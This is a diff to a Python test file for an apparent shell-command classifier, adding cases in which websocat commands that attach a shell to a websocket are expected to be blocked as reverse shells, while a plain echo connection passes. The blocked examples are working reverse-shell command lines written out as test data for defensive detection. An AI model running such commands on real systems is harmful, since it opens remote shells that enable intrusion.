@@ -483,3 +483,13 @@ def test_fetched_data_evaluated_from_stdin_or_sponged_to_a_script_blocks(command
 ])
 def test_interpreters_reading_stdin_as_data_pass(command: str) -> None:
     assert classify(command).verdict is Verdict.PASS, classify(command).to_dict()
+
+
+@pytest.mark.parametrize("command, verdict", [
+    ("websocat ws://h:4444 sh-c:sh", Verdict.BLOCK),
+    ("websocat --exec sh ws://h", Verdict.BLOCK),
+    ("websocat ws://echo.websocket.org", Verdict.PASS),
+])
+def test_websocat_running_a_program_on_a_socket_is_a_reverse_shell(
+        command: str, verdict: Verdict) -> None:
+    assert classify(command).verdict is verdict, classify(command).to_dict()
